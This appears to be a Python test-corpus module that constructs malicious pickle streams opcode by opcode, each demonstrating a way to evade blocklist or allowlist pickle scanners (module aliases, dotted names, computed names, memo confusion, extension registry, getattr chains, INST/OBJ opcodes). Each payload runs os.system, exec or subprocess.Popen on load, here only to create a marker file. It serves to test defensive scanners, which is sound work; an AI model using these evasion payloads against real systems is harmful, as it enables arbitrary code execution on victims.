"""Malicious pickles, one per bypass class that blocklist scanners have fallen to, built opcode by opcode.

``build_corpus(marker_dir)`` returns ``{name: Case}``: each payload creates the file
``marker_dir/name`` when (and only when) something executes it. Every case is proven real by the
tests: plain ``pickle.loads`` in a child process does create its marker.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from pathlib import Path

# -- opcode builders (the pickletools names) ---------------------------------------------------------

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
MARK, STOP, REDUCE, TUPLE, BUILD, POP = b"(", b".", b"R", b"t", b"b", b"0"
TUPLE1, TUPLE2, TUPLE3, EMPTY_TUPLE, EMPTY_DICT = b"\x85", b"\x86", b"\x87", b")", b"}"
STACK_GLOBAL, MEMOIZE, NEWOBJ, NONE = b"\x93", b"\x94", b"\x81", b"N"


def U(text: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    raw = text.encode("utf-8")
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def S0(text: str) -> bytes:
    """Protocol 0 STRING (a Python 2 str literal, read back as str)."""
    return b"S" + repr(text).encode("ascii") + b"\n"


def C(module: str, name: str) -> bytes:
    """Protocol 0 GLOBAL: two newline-terminated lines."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def SG(module: str, name: str) -> bytes:
    """Protocol 4 STACK_GLOBAL with literal operands."""
    return U(module) + U(name) + STACK_GLOBAL


def BINPUT(i: int) -> bytes:
    return b"q" + bytes([i])


def BINGET(i: int) -> bytes:
    return b"h" + bytes([i])


def EXT1(code: int) -> bytes:
    return b"\x82" + bytes([code])


def call(callable_ops: bytes, *args: bytes) -> bytes:
    """``callable(*args)`` via MARK ... TUPLE REDUCE."""
    return callable_ops + MARK + b"".join(args) + TUPLE + REDUCE


@dataclass(frozen=True)
class Case:
    """A malicious stream, the technique it uses, and setup the victim process did beforehand."""

    data: bytes
    technique: str
    setup: str = ""  # Python run in the child before loading (e.g. an app's copyreg registration)


EXT_CODE = 0xF0


def build_corpus(marker_dir: Path) -> dict[str, Case]:
    """Every case writes ``marker_dir/<name>`` when executed."""
    cases: dict[str, Case] = {}

    def m(name: str) -> str:
        return str(marker_dir / name)

    def touch(name: str) -> str:
        return f"touch '{m(name)}'"

    def open_code(name: str) -> str:
        return f"open({m(name)!r}, 'w').close()"

    # os.system through a protocol-0 GLOBAL: the textbook payload.
    cases["os_system"] = Case(
        C("os", "system") + MARK + S0(touch("os_system")) + TUPLE + REDUCE + STOP,
        "GLOBAL os.system + REDUCE")
    # posix.system: the same function under its C module's name (blocklists list "os" only).
    cases["posix_system"] = Case(
        C("posix", "system") + MARK + S0(touch("posix_system")) + TUPLE + REDUCE + STOP,
        "module alias: posix.system is os.system")
    # Python 2 name: __builtin__.eval is mapped by _compat_pickle to builtins.eval (protocol 0).
    cases["py2_builtin_eval"] = Case(
        C("__builtin__", "eval") + MARK + S0(open_code("py2_builtin_eval")) + TUPLE + REDUCE + STOP,
        "protocol-0 GLOBAL with a Python 2 module name that _compat_pickle maps to builtins")
    # builtins.exec through STACK_GLOBAL, protocol 4.
    cases["stack_global_exec"] = Case(
        PROTO4 + call(SG("builtins", "exec"), U(open_code("stack_global_exec"))) + STOP,
        "STACK_GLOBAL builtins.exec")
    # pip.main: an installed tool that runs arbitrary commands (here it only writes its --log file).
    cases["pip_main"] = Case(
        PROTO4 + SG("pip", "main") + MARK + MARK
        + U("--log") + U(m("pip_main")) + U("--disable-pip-version-check") + U("cache") + U("dir")
        + b"l" + TUPLE + REDUCE + STOP,
        "pip.main (blocklist gap: a package manager entry point)")
    # runpy._run_code execs a string in a fresh namespace.
    cases["runpy_run_code"] = Case(
        PROTO4 + call(SG("runpy", "_run_code"), U(open_code("runpy_run_code")), EMPTY_DICT) + STOP,
        "runpy._run_code(source, globals)")
    # pydoc.locate("builtins.exec") returns exec; a second REDUCE calls that computed callable.
    cases["pydoc_locate"] = Case(
        PROTO4 + call(call(SG("pydoc", "locate"), U("builtins.exec")), U(open_code("pydoc_locate"))) + STOP,
        "pydoc.locate resolves any dotted name at load time; the callable is computed")
    # timeit.timeit(stmt, setup): setup is compiled and run once (stmt "pass" a million times).
    cases["timeit"] = Case(
        PROTO4 + call(SG("timeit", "timeit"), U("pass"), U(open_code("timeit"))) + STOP,
        "timeit.timeit(stmt, setup, timer, number) compiles and runs strings")
    # cProfile.run(statement) execs the statement under the profiler.
    cases["cprofile_run"] = Case(
        PROTO4 + call(SG("cProfile", "run"), U(open_code("cprofile_run"))) + STOP,
        "cProfile.run(statement)")
    # bdb.Bdb.run: a dotted qualname (method of a class) reached by STACK_GLOBAL, called with an instance.
    cases["bdb_run"] = Case(
        PROTO4 + call(SG("bdb", "Bdb.run"), call(SG("bdb", "Bdb")), U(open_code("bdb_run"))) + STOP,
        "bdb.Bdb.run via a dotted STACK_GLOBAL name")
    # Dotted name through an *allowed* module: uuid imports os, so uuid + "os.system" is os.system.
    cases["dotted_through_allowed_module"] = Case(
        PROTO4 + call(SG("uuid", "os.system"), U(touch("dotted_through_allowed_module"))) + STOP,
        "dotted STACK_GLOBAL name through an allowlisted module (prefix matching would pass it)")
    # Dotted name reaching builtins.exec through another module's attribute (inspect imports builtins).
    cases["dotted_to_builtins"] = Case(
        PROTO4 + call(SG("inspect", "builtins.exec"), U(open_code("dotted_to_builtins"))) + STOP,
        "dotted STACK_GLOBAL inspect.builtins.exec reaches builtins through another module")
    # The module name is computed at load time: copyreg._reconstructor(str, str, "os") -> "os",
    # using only allowlisted globals, then STACK_GLOBAL(<computed>, "system").
    computed_os = call(C("copyreg", "_reconstructor"), C("builtins", "str"), C("builtins", "str"), U("os"))
    cases["computed_name"] = Case(
        PROTO4 + call(computed_os + U("system") + STACK_GLOBAL, U(touch("computed_name"))) + STOP,
        "STACK_GLOBAL operand produced by a REDUCE (name computed at load time)")
    # Memo confusion: memo[0] first holds "datetime", is overwritten with "os" by a later PUT, and
    # is read back as the module name; a scanner that keeps the first write sees datetime.system.
    cases["memo_overwrite"] = Case(
        PROTO4 + U("datetime") + BINPUT(0) + POP + U("os") + BINPUT(0) + POP
        + call(BINGET(0) + U("system") + STACK_GLOBAL, U(touch("memo_overwrite"))) + STOP,
        "memo confusion: PUT overwrites a memo entry later read by GET as a module name")
    # Memo indirection without overwrite: the module name only ever appears as a memo reference.
    cases["memo_get_module"] = Case(
        PROTO4 + U("os") + MEMOIZE + POP + U("system") + MEMOIZE + POP
        + call(BINGET(0) + BINGET(1) + STACK_GLOBAL, U(touch("memo_get_module"))) + STOP,
        "memo GET supplies both STACK_GLOBAL operands")
    # EXT1: the global comes from copyreg's extension registry, which the stream does not name.
    cases["ext1_registry"] = Case(
        PROTO2 + EXT1(EXT_CODE) + MARK + U(touch("ext1_registry")) + TUPLE + REDUCE + STOP,
        "EXT1 through copyreg's extension registry (registered by the victim app)",
        setup=f"import copyreg; copyreg.add_extension('os', 'system', {EXT_CODE})")
    # Execute, then break the parser: the REDUCE runs before the unpickler meets the bad byte.
    cases["execute_then_garbage"] = Case(
        C("os", "system") + MARK + S0(touch("execute_then_garbage")) + TUPLE + REDUCE + b"\xff\xfe garbage",
        "valid REDUCE followed by garbage: runs, then the parser fails (no STOP)")
    # builtins.getattr on an allowlisted class walks to os.system:
    # getattr(getattr(getattr(uuid.UUID, "__init__"), "__globals__").get("os"), "system")
    ga = C("builtins", "getattr")
    init = call(ga, C("uuid", "UUID"), U("__init__"))
    glob_dict = call(ga, init, U("__globals__"))
    os_mod = call(call(ga, glob_dict, U("get")), U("os"))
    cases["getattr_of_allowed"] = Case(
        PROTO4 + call(call(ga, os_mod, U("system")), U(touch("getattr_of_allowed"))) + STOP,
        "builtins.getattr chain from an allowlisted class to os.system via __globals__")
    # INST: protocol 0 instantiation opcode with its own GLOBAL-style operand.
    cases["inst_opcode"] = Case(
        MARK + S0(touch("inst_opcode")) + b"ios\nsystem\n" + STOP,
        "INST opcode names the callable inline")
    # OBJ: the callable is whatever sits after the MARK.
    cases["obj_opcode"] = Case(
        MARK + C("os", "system") + S0(touch("obj_opcode")) + b"o" + STOP,
        "OBJ opcode calls the first item after MARK")
    # copyreg._reconstructor (allowlisted) with a forbidden base: base.__init__(obj, state) runs Popen.
    cases["reconstructor_forbidden_base"] = Case(
        PROTO2 + call(
            C("copyreg", "_reconstructor"),
            C("subprocess", "Popen"), C("subprocess", "Popen"),
            MARK + U("touch") + U(m("reconstructor_forbidden_base")) + b"l",
        ) + STOP,
        "allowlisted copyreg._reconstructor with a forbidden base class (subprocess.Popen.__init__)")
    return cases
